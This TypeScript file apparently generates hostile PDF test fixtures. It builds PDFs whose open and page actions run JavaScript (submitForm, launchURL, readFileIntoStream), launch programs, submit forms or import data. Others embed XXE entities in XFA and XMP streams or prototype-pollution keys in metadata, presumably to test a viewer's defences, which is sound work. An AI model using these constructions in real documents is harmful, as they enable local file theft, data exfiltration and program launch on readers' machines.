/** PDF files that would run, open, send or fetch something, each in a way of its own. (ISO 32000-1, 12.6, 7.11, 12.7.) */
import type { Bait, HostileDocument } from './hostile-documents.ts'

export function hostilePdf({ file, url }: Bait): readonly HostileDocument[] {
  const run = `/S /JavaScript /JS (this.submitForm\\("${url}"\\); app.launchURL\\("${url}"\\); util.readFileIntoStream\\("${file}"\\))`
  const actions: Readonly<Record<string, string>> = {
    'runs a script': run,
    'starts a program': `/S /Launch /F (${file}) /Win << /F (${file}) >>`,
    'opens an address': `/S /URI /URI (${url})`,
    'goes to another file': `/S /GoToR /F (${file}) /D [0 /Fit]`,
    'sends its form': `/S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4`,
    'imports data': `/S /ImportData /F (${file})`,
  }
  const acting = Object.entries(actions).map(([name, action]) =>
    hostile(`a PDF that ${name}`, {
      catalog: `/OpenAction << ${action} >> /AA << /WC << ${action} >> >> /Names << /JavaScript << /Names [(a) << ${run} >>] >> >>`,
      page: `/AA << /O << ${action} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << ${action} >> >>]`,
    }),
  )
  return [
    ...acting,
    hostile('a PDF whose picture stands in another file', {
      page: '/Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>',
      draws: '/X Do',
      more: `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (${file}) /Length 0 >>\nstream\n\nendstream`,
    }),
    hostile('a PDF that shows a page of another', {
      page: '/Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>',
      draws: '/X Do',
      more: `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${file}) /Page 0 >> /Length 0 >>\nstream\n\nendstream`,
    }),
    hostile('a PDF with an XFA form that names an entity', {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: stream(`<!DOCTYPE x [<!ENTITY x SYSTEM "file://${file}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&x;</xdp:xdp>`),
    }),
    hostile('a PDF whose properties and description name an entity', {
      catalog: '/Metadata 6 0 R',
      more: stream(`<!DOCTYPE x [<!ENTITY x SYSTEM "${url}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&x;</x:xmpmeta>`),
      info: '<< /Title (__proto__) /__proto__ (hurt) /constructor (hurt) >>',
    }),
  ]
}

interface Hostility {
  /** Further entries of the catalog and of the page. */
  readonly catalog?: string
  readonly page?: string
  /** After the page's text. */
  readonly draws?: string
  /** Object 6. */
  readonly more?: string
  readonly info?: string
}

function hostile(name: string, { catalog = '', page = '', draws = '', more = 'null', info = '<< >>' }: Hostility): HostileDocument {
  const resources = page.includes('/Resources') ? '' : '/Resources << /Font << /F 5 0 R >> >>'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R ${resources} ${page} >>`,
    stream(`BT /F 12 Tf 20 200 Td (Plain words) Tj ET ${draws}`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    more,
    info,
  ]
  let body = '%PDF-1.7\n'
  const starts = objects.map((object, at) => {
    const start = body.length
    body += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(start).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${starts.join('')}trailer << /Size ${objects.length + 1} /Root 1 0 R /Info 7 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
  return { name, format: 'pdf', bytes: Buffer.from(body + table, 'latin1') }
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`
}
